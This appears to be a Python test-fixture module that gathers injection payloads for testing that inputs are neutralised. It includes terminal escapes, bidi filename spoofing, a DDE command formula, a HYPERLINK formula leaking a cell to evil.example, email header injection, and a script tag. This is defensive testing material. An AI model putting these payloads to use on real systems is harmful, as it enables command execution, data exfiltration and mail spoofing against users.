"""Attacks that a feed, a mail or a file may carry, after the well-known classes, in our words.

Whatever runs calls `alert`, whatever loads asks `evil.example`; a test that sees neither has seen
no attack succeed. `payloads.txt` holds those that fit a line, by classes.
"""

from pathlib import Path

_LINES = Path(__file__).with_name("payloads.txt").read_text(encoding="utf-8").split("\n")
_ODD = (
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
    "\x9b31m\x90q\x9c c1",
    "\u202egpj.exe\u202c turned",
    "\u2066isolated\u2069\u200f\u200e marks",
    "in\u200bvi\u2060si\ufeffble\u00ad",
    "z\u0335\u0321a\u0334\u0322l\u0337g\u0338o" + "\u0301" * 40,
    "\u0000null\u0008back\u007f",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1; -1+1; @SUM(1+1)",
    "\t=1+1",
    "Title\r\nBcc: victim@evil.example\r\n\r\n<script>alert(1)</script>",
    "=?utf-8?q?x=0D=0ABcc:_victim@evil.example?=",
    "a\u2028b\u2029c\u0085d",
    "\U000e0041\U000e0042 tags \U0001f3f4",
)
"""Terminal escapes, directions, invisible characters, formulas, headers."""


def _read() -> tuple[str, ...]:
    lines = (line for line in _LINES if line and not line.startswith("[["))
    return tuple(
        line.replace("ALERT", "alert(1)").replace("EVIL", "//evil.example") for line in lines
    )


CLASSES = (*(line[2:-2] for line in _LINES if line.startswith("[[")), "characters")
ALL = (*_read(), *_ODD)
